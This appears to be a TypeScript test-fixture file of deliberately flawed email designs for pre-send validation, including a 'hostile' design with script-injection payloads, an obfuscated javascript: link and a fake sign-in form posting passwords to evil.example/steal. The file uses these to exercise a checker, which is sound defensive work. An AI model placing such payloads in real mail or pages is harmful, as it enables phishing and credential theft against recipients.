/** Mails with something wrong, for the checks before sending (examples/README.md). */
import { band, dataTable, footer, heading, hero, looks, mail, paragraph, picture } from './blocks.ts';
import { programmeRows, type Design } from './designs.ts';

/** So long that Gmail cuts it off, and with it the link to unsubscribe. */
export const fullProgramme: Design = (occasion) => {
  const { look, words } = occasion;
  return mail({
    lang: words.lang,
    look,
    title: words.programme,
    preheader: words.programmeText,
    blocks: [
      band(look, 'Acme Events', words.viewInBrowser),
      heading(look, words.programme),
      dataTable(look, programmeRows(occasion, 240)),
      footer(words.sender, words.unsubscribe),
    ],
  });
};

/** Nothing but a picture. */
export const imageOnly: Design = ({ look, words, seed, eventName }) => {
  const src = picture(look.accent, { width: 600, height: 900, seed });
  const link = `<a href="https://events.acme.example/1/register"><img src="${src}" width="600" height="900" alt="${eventName}" /></a>`;
  return mail({ lang: words.lang, look, title: eventName, preheader: '', blocks: [`<td>${link}</td>`] });
};

/** No way to unsubscribe, pictures without words, links to nowhere and over http, merge tags that nobody fills. */
export const hurried: Design = ({ look, words, seed }) =>
  mail({
    lang: words.lang,
    look,
    title: 'untitled',
    preheader: 'Lorem ipsum',
    blocks: [
      hero(look, { seed, alt: null }),
      hero(look, { seed: seed + 1, alt: '' }),
      heading(look, 'Hello {{firstname}} {{ last_name }}'),
      paragraph(
        'Read <a href="#">more</a>, <a href="">here</a>, <a href="http://events.acme.example/1">on the site</a>, <a href="https://">there</a>, <a href="javascript:void(0)">or there</a>. Your code is {{discount_code}}, dear %first_name%.',
      ),
      footer('Acme Events', null),
    ],
  });

/** Brought along from another system, with all it had. */
export const hostile: Design = ({ look, words }) =>
  mail({
    lang: words.lang,
    look,
    title: '</title><script>alert("title")</script>',
    preheader: 'Imported',
    blocks: [
      heading(look, 'Imported <script>alert("heading")</script>'),
      paragraph(
        `<img src="x" alt="broken" onerror="alert('image')" /> <a href="https://events.acme.example/1/register" onclick="alert('click')">Register</a> <a href="jav&#x09;ascript:alert(1)">Bad link</a>`,
      ),
      paragraph(
        '<form action="https://evil.example/steal"><input name="password" /><button>Sign in</button></form>',
      ),
      footer(words.sender, words.unsubscribe),
    ],
  });

/** As people write themselves: no table, no picture. */
export const plain: Design = ({ words }) => `<!DOCTYPE html>
<html lang="${words.lang}"><head><meta charset="utf-8"><title>${words.invited}</title></head>
<body style="font-family:${looks.slate.font};font-size:15px;line-height:22px;max-width:560px;">
<p>${words.greeting}</p>
<p>${words.invitation}</p>
<p><a href="https://events.acme.example/1/register">https://events.acme.example/1/register</a></p>
<p>Acme Events</p>
<p style="font-size:12px;color:#6b7280;">${words.sender} <a href="{{unsubscribe_url}}">${words.unsubscribe}</a></p>
</body></html>`;
